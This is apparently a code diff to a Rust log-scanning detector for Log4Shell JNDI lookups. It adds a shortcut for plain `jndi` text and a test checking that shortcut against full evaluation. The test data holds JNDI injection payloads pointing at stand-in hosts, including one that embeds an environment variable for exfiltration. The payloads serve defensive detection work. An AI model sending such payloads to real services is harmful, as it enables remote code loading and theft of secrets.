@@ -290,9 +290,39 @@ fn unclosed(s: &str) -> usize {
     open
 }
 
-/// Evaluates decoded text and classifies what the evaluation did; `at_end` says the text ends
-/// where the line ends, so a lookup left open there was cut by the logger, not by a window.
-pub(crate) fn analyze(decoded: &str, limits: &Limits, at_end: bool) -> Vec<Finding> {
+/// Evaluates decoded text and classifies what the evaluation did, adding the findings not
+/// already in `findings`; `at_end` says the text ends where the line ends, so a lookup left
+/// open there was cut by the logger, not by a window.
+pub(crate) fn analyze(decoded: &str, limits: &Limits, at_end: bool, findings: &mut Vec<Finding>) {
+    // Text whose lookups are all plain `jndi` ones evaluates to itself: what is found is those
+    // lookups, and nothing left in the text is exfiltration (a `jndi` lookup reads nothing).
+    if substitutor::is_plain_jndi(decoded, limits) {
+        for name in substitutor::plain_jndi_names(decoded) {
+            push_new(findings, jndi_finding(name));
+        }
+        return;
+    }
+    for finding in analyze_evaluated(decoded, limits, at_end) {
+        push_new(findings, finding);
+    }
+}
+
+/// Adds `finding` unless an equal one is there already.
+fn push_new(findings: &mut Vec<Finding>, finding: Finding) {
+    if !findings.contains(&finding) {
+        findings.push(finding);
+    }
+}
+
+/// A `jndi` finding for the substituted lookup name `name`.
+fn jndi_finding(name: &str) -> Finding {
+    let mut finding = Finding::new(HitClass::Jndi, jndi_payload(name));
+    finding.target = JndiTarget::parse(name);
+    finding
+}
+
+/// [`analyze`] by a full evaluation, for any text.
+fn analyze_evaluated(decoded: &str, limits: &Limits, at_end: bool) -> Vec<Finding> {
     let mut evaluation = substitutor::evaluate(decoded, limits);
     // Counting what is left open scans the whole text: only done when it can matter.
     let open = if at_end && evaluation.jndi.is_empty() && evaluation.abort.is_none() {
@@ -309,10 +339,9 @@ pub(crate) fn analyze(decoded: &str, limits: &Limits, at_end: bool) -> Vec<Findi
         }
     }
     let mut findings = Vec::new();
-    for call in &evaluation.jndi {
-        let mut finding = Finding::new(HitClass::Jndi, jndi_payload(&call.name));
-        finding.target = JndiTarget::parse(&call.name);
-        finding.exfiltration = call.exfiltration.clone();
+    for call in &mut evaluation.jndi {
+        let mut finding = jndi_finding(&call.name);
+        finding.exfiltration = std::mem::take(&mut call.exfiltration);
         findings.push(finding);
     }
     if findings.is_empty() {
@@ -468,7 +497,9 @@ mod tests {
     use super::*;
 
     fn analyze_one(s: &str) -> Vec<Finding> {
-        analyze(s, &Limits::default(), true)
+        let mut findings = Vec::new();
+        analyze(s, &Limits::default(), true, &mut findings);
+        findings
     }
 
     #[test]
@@ -607,6 +638,67 @@ mod tests {
         for line in crate::hunt::corpus::generate(5, 300) {
             assert_eq!(unclosed(&line.text), reference(&line.text), "{}", line.text);
         }
+    }
+
+    /// The plain-`jndi` shortcut must find what a full evaluation finds, on every text it takes.
+    #[test]
+    fn plain_jndi_text_is_analyzed_as_a_full_evaluation_would() {
+        let mut texts: Vec<String> = [
+            "${jndi:ldap://a.example/x}",
+            "${jndi:a}${jndi:a} ${JnDi:RMI://B.example:1099/y}",
+            "$${jndi:x}",
+            "a$${jndi:x}",
+            "$ ${jndi:b} $5 $",
+            "${jndi:x:-y}",
+            "${jndi:a:}-",
+            "${jndi:a$b}",
+            "${jndi:a",
+            "x}${jndi:y}}",
+            "${jndi:a}${",
+            "${jndix}",
+            "${jndi}",
+            "${ jndi:x}",
+            "${jndi:}",
+            "${jndi:ldap://${env:X}.a.example/x}",
+            "${jndi:ldap://a}${lower:X}",
+            "${jndi:ldap://a} ${server.port}",
+            "\u{e9}${jndi:\u{fc}ber.example}",
+            "${j\u{130}ndi:x}",
+            "no lookup",
+            "",
+        ]
+        .iter()
+        .map(|s| s.to_string())
+        .collect();
+        for line in crate::hunt::corpus::generate(17, 2000) {
+            let decoded = crate::hunt::decode::decode_layers(line.text.as_bytes(), 4).0;
+            texts.push(String::from_utf8_lossy(&decoded).into_owned());
+            texts.push(line.text);
+        }
+        let limits = Limits::default();
+        let small = Limits {
+            max_output: 24,
+            ..Limits::default()
+        };
+        let mut plain = 0;
+        for text in &texts {
+            for start in (0..text.len()).filter(|&i| text.as_bytes()[i..].starts_with(b"${")) {
+                let window = &text[start..];
+                for limits in [&limits, &small] {
+                    for at_end in [true, false] {
+                        let mut fast = Vec::new();
+                        analyze(window, limits, at_end, &mut fast);
+                        let mut full = Vec::new();
+                        for finding in analyze_evaluated(window, limits, at_end) {
+                            push_new(&mut full, finding);
+                        }
+                        assert_eq!(fast, full, "{window:?}");
+                    }
+                    plain += usize::from(substitutor::is_plain_jndi(window, limits));
+                }
+            }
+        }
+        assert!(plain > 500, "the shortcut took only {plain} texts");
     }
 
     #[test]
